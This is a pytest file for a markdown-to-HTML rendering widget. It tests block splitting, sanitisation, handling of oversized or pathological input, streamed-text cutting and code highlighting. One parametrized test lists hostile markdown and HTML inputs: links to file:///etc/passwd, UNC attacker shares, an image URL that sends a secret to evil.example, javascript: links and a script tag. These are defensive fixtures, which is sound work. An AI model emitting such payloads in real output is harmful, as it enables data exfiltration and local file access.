"""Markdown becomes harmless blocks, whatever it says."""

from __future__ import annotations

import time

import pytest

from expert_studio.views.theme_tokens import LIGHT
from expert_studio.views.widgets.markdown import (
    LONGEST_SHOWN,
    Code,
    Prose,
    blocks,
    coloured,
    open_code,
    plain,
    split_open,
)


def _html(text: str) -> str:
    return "".join(block.html for block in blocks(text) if isinstance(block, Prose))


def test_prose_and_code_come_in_order() -> None:
    made = blocks('Before\n\n```json\n{"a": 1}\n```\n\nafter **bold**')
    assert made[1] == Code("json", '{"a": 1}')
    assert isinstance(made[0], Prose)
    assert isinstance(made[2], Prose)
    assert "<strong>bold</strong>" in made[2].html


@pytest.mark.parametrize(
    "hostile",
    [
        '<img src="file:///etc/passwd">',
        "![x](file:///etc/passwd)",
        "![x](\\\\attacker\\x.png)",
        "![x](http://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](file:///etc/passwd)",
        "[x](\\\\attacker\\share)",
        "[x](data:text/html,hi)",
        "<a href='http://evil.example'>x</a>",
        "<script>alert(1)</script>",
    ],
)
def test_nothing_hostile_survives(hostile: str) -> None:
    made = _html(hostile)
    assert "<img" not in made
    assert "<script" not in made
    assert "<a " not in made


def test_web_links_survive_with_their_target_shown() -> None:
    made = _html("[terms](https://example.org/a?b=1&c=2)")
    assert 'href="https://example.org/a?b=1&amp;c=2"' in made
    assert 'title="https://example.org/' in made


def test_control_signs_and_direction_overrides_vanish() -> None:
    assert plain("a\x1b[31mred\u202edne\x00") == "a[31mreddne"
    assert plain("a\r\nb\tc") == "a\nb\tc"


def test_enormous_text_is_cut_and_stays_plain() -> None:
    made = blocks("x" * 10_000_000)
    assert len(made) == 1
    assert isinstance(made[0], Prose)
    assert len(made[0].html) < LONGEST_SHOWN + 200


@pytest.mark.parametrize(
    "strange",
    [
        ">" * 50_000 + " deep",
        "| a |\n| - |\n" + "| x |\n" * 6_000,
        "```python\n" + "x = 1\n" * 5_000,
        "*" * 30_000,
        "[" * 20_000,
        "- " * 5_000 + "x",
        "`" * 19_999,
    ],
)
def test_strange_text_ends(strange: str) -> None:
    began = time.monotonic()
    assert blocks(strange)
    assert time.monotonic() - began < 60, "hung"


def test_streamed_text_is_cut_at_complete_blocks() -> None:
    assert split_open("one\n\ntwo") == ("one\n\n", "two")
    assert split_open("one\ntwo\n") == ("", "one\ntwo\n")
    fence = "one\n\n```py\na = 1\n\nb = 2\n"
    assert split_open(fence) == ("one\n\n", "```py\na = 1\n\nb = 2\n")
    assert split_open(fence + "```\nrest") == (fence + "```\n", "rest")


def test_pieces_in_any_cut_join_to_the_whole() -> None:
    text = "# t\n\npara\n\n```c\nint a;\n\n```\n\n1. x\n\n~~~\n```\n~~~\nend"
    for step in (1, 2, 3, 7):
        done, held = "", ""
        for start in range(0, len(text), step):
            held += text[start : start + step]
            whole, held = split_open(held)
            done += whole
        assert done + held == text


def test_open_fence_is_code() -> None:
    assert open_code("```json\n{") == Code("json", "{")
    assert open_code("plain") is None


def test_code_is_coloured_and_escaped() -> None:
    made = coloured(Code("json", '{"a": "<b>", "n": 1}'), LIGHT)
    assert "&lt;b&gt;" in made
    assert LIGHT.syntax_string in made
    assert LIGHT.syntax_number in made
    assert coloured(Code("no-such-language", "<x>"), LIGHT) == "&lt;x&gt;"
